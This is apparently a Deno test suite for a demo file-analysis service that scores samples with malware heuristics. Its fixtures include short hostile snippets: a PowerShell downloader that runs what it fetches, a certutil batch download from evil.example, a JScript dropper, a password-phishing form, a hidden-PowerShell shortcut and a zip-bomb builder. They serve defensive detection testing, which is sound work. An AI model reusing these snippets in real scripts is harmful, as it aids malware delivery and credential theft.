import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { deflateRawSync, gzipSync } from "node:zlib";
import fc from "fast-check";
import {
  analyseFile,
  type Analysis,
  type AnalysisContext,
  type AnalysisParams,
  createAnalyser,
} from "../../src/demo/analysis/mod.ts";
import { makeZip as storedZip } from "../../src/demo/corpus/content/archive.ts";
import { makeMail } from "../../src/demo/corpus/content/texts.ts";
import { makeProgram, makeShortcut } from "../../src/demo/corpus/content/programs.ts";
import { makePng } from "../../src/demo/corpus/content/images.ts";
import { HEURISTICS } from "../../src/demo/corpus/heuristics.ts";
import { Rng } from "../../src/demo/corpus/rng.ts";
import { themes } from "../../src/demo/corpus/theme.ts";
import { EICAR } from "../../src/demo/corpus/curiosities.ts";
import { tagId } from "../../src/demo/corpus/list_docs.ts";
import { createDemoStore } from "../../src/demo/store.ts";
import { encryptedZip } from "../../src/demo/zip.ts";

const NOW = Date.parse("2026-11-24T09:30:00Z");
const CONTEXT: AnalysisContext = { nowMs: NOW, expiryMs: NOW + 86_400_000 };
const utf8 = (text: string) => new TextEncoder().encode(text);

interface Section {
  readonly title_text: string;
  readonly heuristic: { readonly heur_id: string; readonly score: number } | null;
  readonly tags: Record<string, unknown>;
  readonly safelisted_tags: Record<string, string[]>;
}

function analyse(
  content: string | Uint8Array,
  more: { name?: string; params?: AnalysisParams; context?: Partial<AnalysisContext> } = {},
): Analysis {
  const bytes = typeof content === "string" ? utf8(content) : content;
  return analyseFile(bytes, more.name ?? "sample.bin", {
    params: more.params ?? {},
    context: { ...CONTEXT, ...more.context },
  });
}

function sections(analysis: Analysis, service?: string): Section[] {
  return analysis.tasks.flatMap((task) =>
    task.outcome.kind === "result" && (service === undefined || task.service === service)
      ? (task.outcome.document as unknown as { result: { sections: Section[] } }).result.sections
      : []
  );
}

const raised = (analysis: Analysis): string[] =>
  sections(analysis).flatMap((section) => section.heuristic ? [section.heuristic.heur_id] : []);

function tagsOf(analysis: Analysis, path: string): unknown[] {
  return sections(analysis).flatMap((section) => {
    let node: unknown = section.tags;
    for (const part of path.split(".")) node = (node as Record<string, unknown> | null)?.[part];
    return Array.isArray(node) ? node : [];
  });
}

const typesOf = (analysis: Analysis): string[] => analysis.files.map((file) => String(file.document["type"]));

Deno.test("addresses in text become tags", () => {
  const found = analyse(
    "visit http://evil.example, or mail bob@evil.example; 198.51.100.9 is v1.2.3.4567 not kernel32.dll",
  );
  assert.deepEqual(tagsOf(found, "network.static.uri"), ["http://evil.example"]);
  assert.deepEqual(tagsOf(found, "network.static.domain"), ["evil.example"]);
  assert.deepEqual(tagsOf(found, "network.static.ip"), ["198.51.100.9"]);
  assert.deepEqual(tagsOf(found, "network.email.address"), ["bob@evil.example"]);
  assert.equal(found.maxScore, 0);
});

Deno.test("the antivirus test file is malicious, also inside archives and mails", () => {
  assert.ok(analyse(EICAR, { name: "eicar.com" }).maxScore >= 1000);
  const zip = storedZip([{ name: "eicar.com", bytes: utf8(EICAR) }]);
  const inZip = analyse(zip, { name: "a.zip" });
  assert.ok(inZip.maxScore >= 1000);
  assert.deepEqual(inZip.files.map((file) => file.name), ["a.zip", "eicar.com"]);
  const theme = themes(1)(1, "info");
  const mail = analyse(makeMail(theme, new Rng(1), { attachments: [{ name: "a.zip", bytes: zip }] }), {
    name: "m.eml",
  });
  assert.deepEqual(typesOf(mail), ["document/email", "archive/zip", "text/plain"]);
  assert.ok(mail.maxScore >= 1000);
});

Deno.test("markers do what the genuine server's stand-in services do", () => {
  const bad = analyse(
    "a sample ALX-MALICIOUS strings: evil.example.net ALX-EXTRACT  the extracted child file body \n",
  );
  assert.equal(bad.maxScore, 1000);
  assert.deepEqual(sections(bad, "McAfee").map((one) => one.title_text), ["Malicious marker"]);
  assert.deepEqual(tagsOf(bad, "av.virus_name"), ["Test.Malicious"]);
  assert.ok(tagsOf(bad, "network.static.domain").includes("bad.example.com"));
  const child = utf8("the extracted child file body");
  assert.equal(bad.files[1]?.sha256, createHash("sha256").update(child).digest("hex"));
  assert.equal(bad.files[1]?.name, "child.bin");
  assert.deepEqual(bad.tasks.find((task) => task.service === "Extract")?.extracted, [bad.files[1]?.sha256]);

  const suspicious = analyse("ALX-SUSPICIOUS");
  assert.equal(suspicious.maxScore, 300);
  assert.deepEqual(raised(suspicious), ["CHARACTERIZE.1"]);

  const failing = analyse("ALX-FAIL");
  const errors = failing.tasks.filter((task) => task.outcome.kind === "error");
  assert.deepEqual(errors.map((task) => task.service), ["PDFId"]);
  assert.match(errors[0]?.key ?? "", /^[0-9a-f]{64}\.PDFId\.v[\d_]+\.c0\.e1$/);

  const slow = analyse("ALX-SLOW");
  assert.ok(slow.tasks.every((task) => task.durationMs === 2000));
  assert.ok(analyse("quick").tasks.every((task) => task.durationMs < 500));
});

const program = (more: Partial<Parameters<typeof makeProgram>[0]> = {}) =>
  makeProgram({
    seed: 5,
    sections: [".text", ".rdata", ".data"],
    imports: ["CreateFileW"],
    strings: ["hello"],
    dll: false,
    wide: false,
    packed: false,
    codeSize: 4096,
    linkerTime: 1_600_000_000,
    ...more,
  });

const CASES:
  readonly (readonly [what: string, name: string, content: string | Uint8Array, heuristics: string])[] = [
    ["plain text", "a.txt", "nothing to see here", ""],
    ["picture", "a.png", makePng(1), ""],
    ["benign program", "a.exe", program(), "PE.3"],
    [
      "packed program",
      "a.exe",
      program({ packed: true, sections: ["UPX0", "UPX1", ".rsrc"] }),
      "PE.1 PE.3 PE.4",
    ],
    [
      "injecting program",
      "a.exe",
      program({ imports: ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"] }),
      "CAPA.2 PE.2 PE.3",
    ],
    ["program from the future", "a.exe", program({ linkerTime: 4_000_000_000 }), "PE.3 PE.5"],
    ["program named as a document", "cv.pdf.exe", program(), "CHARACTERIZE.5 PE.3"],
    ["program posing as a document", "cv.pdf", program(), "CHARACTERIZE.3 PE.3"],
    ["reversed name", "cv\u202efdp.exe", program(), "CHARACTERIZE.4 PE.3"],
    [
      "downloader in PowerShell",
      "a.ps1",
      "$u = 'x'\n(New-Object Net.WebClient).DownloadFile($u, 'b.exe'); Start-Process b.exe\n",
      "OVERPOWER.2 YARA.2",
    ],
    ["benign PowerShell", "a.ps1", "$files = Get-ChildItem D:\\logs\nWrite-Host $files.Count\n", ""],
    [
      "dropper in JavaScript",
      "a.js",
      'var x=new ActiveXObject("MSXML2.XMLHTTP");var s=new ActiveXObject("ADODB.Stream");s.SaveToFile("a.exe");',
      "JSJAWS.1 YARA.2",
    ],
    [
      "phishing page",
      "a.html",
      '<html><form action="https://evil.example/p"><input type="password" name="p"></form></html>',
      "JSJAWS.4",
    ],
    [
      "smuggling page",
      "a.html",
      '<html><script>var b=new Blob([atob("QUJD")]);a.download="x.zip"</script></html>',
      "JSJAWS.3",
    ],
    [
      "batch downloader",
      "a.bat",
      "@echo off\r\ncertutil -urlcache -f http://evil.example/a a.exe\r\n",
      "BATCHDEOBFUSCATOR.2",
    ],
    [
      "document with script",
      "a.pdf",
      "%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >> endobj\n%%EOF\n",
      "PDFID.1 PEEPDF.2",
    ],
    [
      "document with link",
      "a.pdf",
      "%PDF-1.4\n1 0 obj << /S /URI /URI (https://evil.example/a) >> endobj\n%%EOF\n",
      "PEEPDF.1",
    ],
    ["bytes after the end", "a.pdf", "%PDF-1.4\n1 0 obj endobj\n%%EOF\nMORE", "PDFID.2"],
    ["URL with an address", "a.txt", "get http://198.51.100.9/x", "FRANKENSTRINGS.3"],
    ["base64 text", "a.txt", `x = ${btoa("powershell is only words in this long text")}`, "FRANKENSTRINGS.1"],
    [
      "program in base64",
      "a.txt",
      btoa(String.fromCharCode(...program({ codeSize: 1024 }))),
      "FRANKENSTRINGS.2 PE.3",
    ],
    ["archive with program", "a.zip", storedZip([{ name: "a.exe", bytes: program() }]), "EXTRACT.2 PE.3"],
    ["shortcut to a shell", "a.lnk", makeShortcut("/c powershell -w hidden -c x", "d"), "YARA.2"],
  ];

for (const [what, name, content, wanted] of CASES) {
  Deno.test(`heuristics: ${what}`, () => {
    assert.deepEqual(
      raised(analyse(content, { name })).sort(),
      wanted.split(" ").filter((id) => id !== "").sort(),
    );
  });
}

for (
  const [what, unit] of [["letters", "A"], ["wide letters", "a\0"], ["dots", "a."], [
    "addresses",
    "x@a.",
  ]] as const
) {
  Deno.test(`an endless run of ${what} breaks no service`, () => {
    const size = 5 * 1024 * 1024;
    const { tasks } = analyse(unit.repeat(Math.floor(size / unit.length)));
    assert.deepEqual(
      tasks.filter(({ outcome }) => outcome.kind === "error").map(({ service }) => service),
      [],
    );
  });
}

Deno.test("of base64 with letters left over, the whole quartets are decoded", () => {
  const text = btoa("powershell is only words in this long text!"); // of whole quartets, with padding
  for (const run of [text, text.slice(0, -2), `${text.slice(0, -4)}ABC`]) {
    assert.deepEqual(raised(analyse(`x = ${run};`, { name: "a.txt" })), ["FRANKENSTRINGS.1"]);
  }
});

Deno.test("members of zip, tar, gzip and nested archives become files", () => {
  const inner = storedZip([{ name: "deep.txt", bytes: utf8("deep") }, {
    name: "empty",
    bytes: new Uint8Array(),
  }]);
  const outer = storedZip([{ name: "inner.zip", bytes: inner }, { name: "é ✓.txt", bytes: utf8("two") }]);
  assert.deepEqual(analyse(outer).files.map((file) => file.name), [
    "sample.bin",
    "inner.zip",
    "é ✓.txt",
    "deep.txt",
  ]);

  const zipped = analyse(new Uint8Array(gzipSync("inside")));
  assert.deepEqual(typesOf(zipped), ["archive/gzip", "text/plain"]);

  const header = new Uint8Array(512);
  header.set(utf8("dir/file.txt"));
  header.set(utf8("00000000005\0"), 124);
  header.set(utf8("0"), 156);
  header.set(utf8("ustar\0"), 257);
  const body = new Uint8Array(512);
  body.set(utf8("hello"));
  const tar = new Uint8Array(2048);
  tar.set(header);
  tar.set(body, 512);
  const files = analyse(tar).files;
  assert.deepEqual(files.map((file) => file.name), ["sample.bin", "dir/file.txt"]);
  assert.deepEqual(files[1]?.bytes, utf8("hello"));
});

Deno.test("passwords open archives: the usual one, and those of the submission", () => {
  const usual = analyse(encryptedZip("a.txt", utf8("secret"), "infected"));
  assert.deepEqual(usual.files.map((file) => file.name), ["sample.bin", "a.txt"]);
  assert.ok(raised(usual).includes("EXTRACT.4"));
  const own = encryptedZip("a.txt", utf8("secret"), "Zürich 7");
  assert.equal(analyse(own).files.length, 1);
  const params = { initial_data: JSON.stringify({ passwords: ["Zürich 7"] }) };
  assert.deepEqual(analyse(own, { params }).files[1]?.bytes, utf8("secret"));
  assert.equal(analyse(own, { params: { initial_data: "not json" } }).files.length, 1);
});

/** A zip that claims nothing unusual and inflates to `size` zeros. */
function bomb(size: number): Uint8Array {
  const packed = new Uint8Array(deflateRawSync(new Uint8Array(size), { level: 9 }));
  const zip = storedZip([{ name: "zeros", bytes: packed }]);
  const view = new DataView(zip.buffer);
  const central = zip.length - 22 - 46 - 5;
  view.setUint16(8, 8, true);
  view.setUint16(central + 10, 8, true);
  return zip;
}

Deno.test("bombs, cut archives and too many files are bounded and said", () => {
  const found = analyse(bomb(80 * 1024 * 1024));
  assert.equal(found.files.length, 1);
  assert.ok(raised(found).includes("EXTRACT.3"));
  const cut = storedZip([{ name: "a.txt", bytes: utf8("a".repeat(100)) }]).slice(0, 60);
  assert.equal(analyse(cut).files.length, 1);
  const many = storedZip(
    Array.from({ length: 30 }, (_, i) => ({ name: `${i}.txt`, bytes: utf8(`file ${i}`) })),
  );
  const few = analyse(many, { params: { max_extracted: 10 } });
  assert.equal(few.files.length, 11);
  assert.ok(raised(few).includes("EXTRACT.3"));
});

Deno.test("archives in archives end at the greatest depth with an error", () => {
  let content = utf8("core");
  for (let i = 0; i < 9; i++) {
    content = new Uint8Array(storedZip([{ name: `level${i}.zip`, bytes: content }]));
  }
  const found = analyse(content);
  assert.equal(Math.max(...found.files.map((file) => file.depth)), 6);
  const errors = found.tasks.filter((task) => task.outcome.kind === "error");
  assert.deepEqual(errors.map((task) => task.key.split(".").at(-1)), ["e10"]);
});

Deno.test("services: chosen by name or category, excluded, switched off", () => {
  const services = (params: AnalysisParams, context: Partial<AnalysisContext> = {}) =>
    new Set(analyse("text", { params, context }).tasks.map((task) => task.service));
  assert.ok(services({}).has("McAfee"));
  assert.ok(!services({}).has("VirusTotal"));
  assert.deepEqual(services({ services: { selected: ["Antivirus"] } }), new Set(["McAfee", "Metadefender"]));
  assert.deepEqual(
    services({ services: { selected: ["Antivirus"], excluded: ["McAfee"] } }),
    new Set(["Metadefender"]),
  );
  assert.deepEqual(services({ services: { selected: ["YARA"] } }), new Set(["YARA"]));
  assert.ok(!services({}, { enabled: (name) => name !== "YARA" }).has("YARA"));
});

Deno.test("safelisted files end the analysis, safelisted tags stand apart, ignore_filtering undoes both", () => {
  const context = {
    safelisted: () => "NSRL",
    safelistedTag: (_: string, value: string) => value === "evil.example",
  };
  const found = analyse("http://evil.example/a", { context });
  assert.deepEqual(found.tasks.map((task) => task.service), ["Safelist"]);
  assert.ok(found.maxScore < 0);
  const tagged = analyse("http://evil.example/a", { context: { safelistedTag: context.safelistedTag } });
  assert.deepEqual(tagsOf(tagged, "network.static.domain"), []);
  assert.ok(
    sections(tagged).some((section) =>
      section.safelisted_tags["network.static.domain"]?.[0] === "evil.example"
    ),
  );
  const all = analyse("http://evil.example/a", { context, params: { ignore_filtering: true } });
  assert.deepEqual(tagsOf(all, "network.static.domain"), ["evil.example"]);
  assert.equal(all.maxScore, 0);
});

Deno.test("badlisted files and tags raise their heuristics", () => {
  const badlisted = (key: { sha256: string } | { type: string; value: string }) =>
    "value" in key && key.value === "evil.example" ? "C2" : undefined;
  assert.deepEqual(raised(analyse("see evil.example", { context: { badlisted } })), ["BADLIST.2"]);
  assert.deepEqual(
    raised(analyse("x", { context: { badlisted: () => "known" } })).includes("BADLIST.1"),
    true,
  );
});

Deno.test("whatever the bytes: no failure, scores add up, keys and hashes are right", () => {
  const heads = [
    "MZ",
    "PK\x03\x04",
    "%PDF-1.4 /JS",
    "\x7fELF",
    "From: a\nTo: b\nSubject: c\n\n",
    "<html>",
    "\x1f\x8b\x08\0",
    "@echo off\n",
  ];
  fc.assert(
    fc.property(fc.constantFrom("", ...heads), fc.uint8Array({ maxLength: 3000 }), (head, tail) => {
      const bytes = new Uint8Array([...[...head].map((c) => c.charCodeAt(0)), ...tail]);
      const found = analyse(bytes);
      const scores = new Map<string, number>();
      for (const task of found.tasks) {
        assert.ok(task.key.startsWith(`${task.sha256}.${task.service}.v`));
        assert.equal(task.key.endsWith(".e"), task.outcome.kind === "empty");
        assert.notEqual(task.outcome.kind, "error");
        if (task.outcome.kind === "result") {
          scores.set(task.sha256, (scores.get(task.sha256) ?? 0) + task.outcome.score);
        }
      }
      for (const section of sections(found)) {
        if (section.heuristic) {
          assert.equal(HEURISTICS.get(section.heuristic.heur_id)?.score, section.heuristic.score);
        }
      }
      assert.equal(found.maxScore, Math.max(...found.files.map((file) => scores.get(file.sha256) ?? 0)));
      for (const file of found.files) {
        assert.equal(createHash("sha256").update(file.bytes).digest("hex"), file.sha256);
        assert.equal(file.document["sha256"], file.sha256);
        assert.equal(file.document["size"], file.bytes.length);
      }
    }),
    { numRuns: 150 },
  );
});

Deno.test("the pipeline's analyser reads bytes and lists from the store", () => {
  const store = createDemoStore();
  const zip = storedZip([{ name: "a.txt", bytes: utf8("see evil.example ") }]);
  const sha256 = createHash("sha256").update(zip).digest("hex");
  store.putBytes(sha256, zip);
  store.collections.badlist.put(tagId("network.static.domain", "evil.example"), {
    enabled: true,
    sources: [{ name: "admin", reason: ["C2"] }],
  });
  const analyser = createAnalyser(store);
  const found = analyser({ name: "a.zip", sha256, size: zip.length }, { ttl: 10 }, NOW);
  assert.equal(found.file["type"], "archive/zip");
  assert.deepEqual(found.children.map((child) => child.name), ["a.txt"]);
  assert.ok(
    found.results.some(([key, doc]) => key.includes(".Badlist.") && doc !== undefined),
  );
  assert.ok(found.results.some(([key, doc]) => key.endsWith(".e") && doc === undefined));
  assert.equal(found.file["expiry_ts"], "2026-12-04T09:30:00.000000Z");
  assert.deepEqual(analyser({ name: "gone", sha256: "0".repeat(64), size: 1 }, {}, NOW).results, []);
});
